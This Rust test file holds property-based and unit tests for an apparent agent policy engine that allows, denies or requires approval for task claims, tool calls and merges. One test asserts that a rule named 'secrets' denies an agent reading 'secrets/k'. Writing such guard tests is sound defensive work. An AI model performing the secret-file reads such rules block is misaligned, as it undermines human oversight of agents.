fn arb_input() -> impl Strategy<Value = DecisionInput> {
    let task = (arb_string(), any::<i64>(), proptest::collection::vec(arb_string(), 0..3), arb_string())
        .prop_map(|(t, priority, labels, title)| TaskFacts { id: "t".into(), task_type: t, priority, labels, title });
    let agent = (arb_string(), proptest::collection::vec(arb_string(), 0..3)).prop_map(|(name, labels)| AgentFacts {
        name,
        labels,
        backend: "b".into(),
    });
    let access = prop_oneof![Just(None), Just(Some(Access::Read)), Just(Some(Access::Write))];
    let tool = (
        arb_string(),
        proptest::option::of(arb_string()),
        proptest::option::of(arb_string()),
        proptest::option::of(arb_string()),
        access,
    )
        .prop_map(|(name, command, path, host, access)| ToolFacts { name, command, path, host, access });
    let float = prop_oneof![any::<f64>(), Just(f64::NAN), Just(f64::INFINITY), 0.0..10.0];
    let usage = (any::<u64>(), float.clone(), float, any::<u32>())
        .prop_map(|(tokens, cost_usd, elapsed_secs, attempts)| UsageFacts { tokens, cost_usd, elapsed_secs, attempts });
    (
        prop_oneof![Just(Stage::Claim), Just(Stage::Tool), Just(Stage::Merge)],
        proptest::option::of(task),
        proptest::option::of(agent),
        proptest::option::of(tool),
        proptest::option::of(usage),
    )
        .prop_map(|(stage, task, agent, tool, usage)| DecisionInput { stage, task, agent, tool, usage })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn evaluation_never_panics_and_names_what_decided(input in arb_input()) {
        let p = project(PROP_POLICY);
        let d = p.evaluate(&input);
        // (Debug, not ==: NaN usage is not equal to itself.)
        prop_assert_eq!(format!("{:?}", d.inputs), format!("{input:?}"));
        match &d.rule_id {
            Some(id) if id.starts_with("budget:") => prop_assert_eq!(d.effect, Deny),
            Some(id) => {
                let rule = p.rules().iter().find(|r| &r.id == id);
                prop_assert!(rule.is_some());
                // A rule decides with its own effect, or deny when its condition failed.
                let rule = rule.unwrap();
                prop_assert!(d.effect == rule.effect || (d.effect == Deny && d.reason.contains("fail closed")));
            }
            None => prop_assert_eq!(d.effect, RequireApproval),
        }
        prop_assert!(serde_json::to_string(&d).is_ok());
    }

    #[test]
    fn the_decision_does_not_depend_on_rule_order(input in arb_input(), seed in any::<u64>()) {
        let rules: Vec<&str> = PROP_POLICY.split("\n  - ").collect();
        let (head, rules) = (rules[0], &rules[1..]);
        let (last, budgets) = rules[rules.len() - 1].split_once("\nbudgets:").unwrap();
        let mut items: Vec<String> = rules[..rules.len() - 1].iter().map(|s| (*s).to_owned()).collect();
        items.push(last.to_owned());
        let mut shuffled = items.clone();
        let mut rng = seed;
        for i in (1..shuffled.len()).rev() {
            rng = rng.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            shuffled.swap(i, (rng >> 33) as usize % (i + 1));
        }
        let text = |items: &[String]| format!("{head}\n  - {}\nbudgets:{budgets}", items.join("\n  - "));
        let (a, b) = (project(&text(&items)), project(&text(&shuffled)));
        let (da, db) = (a.evaluate(&input), b.evaluate(&input));
        prop_assert_eq!(da.effect, db.effect);
        prop_assert_eq!(da.rule_id, db.rule_id);
    }

    #[test]
    fn parsing_never_panics(text in "\\PC{0,200}") {
        let _ = validate_str(Path::new("x.yaml"), &text);
    }
}

#[test]
fn the_documented_format_example_is_valid() {
    let docs = include_str!("lib.rs");
    let start = docs.find("//! ```yaml\n").unwrap() + "//! ```yaml\n".len();
    let end = start + docs[start..].find("//! ```\n").unwrap();
    let yaml: String =
        docs[start..end].lines().map(|l| format!("{}\n", l.strip_prefix("//! ").unwrap_or(""))).collect();
    assert_eq!(errors(&yaml), Vec::<String>::new());
    let p = project(&yaml);
    assert_eq!(p.rules().len(), 5, "`enabled: false` only removes");
    assert_eq!(p.budgets().max_attempts, Some(3));
    let fetch = DecisionInput::new(Stage::Tool).with_agent(agent("claude-2")).with_tool(ToolFacts {
        name: "http_request".into(),
        host: Some("docs.example.com".into()),
        ..ToolFacts::default()
    });
    assert_eq!(decide(&p, &fetch), by(Allow, "docs-site"));
    assert_eq!(decide(&p, &file_call("read_file", "secrets/k", Access::Read)), by(Deny, "secrets"));
}
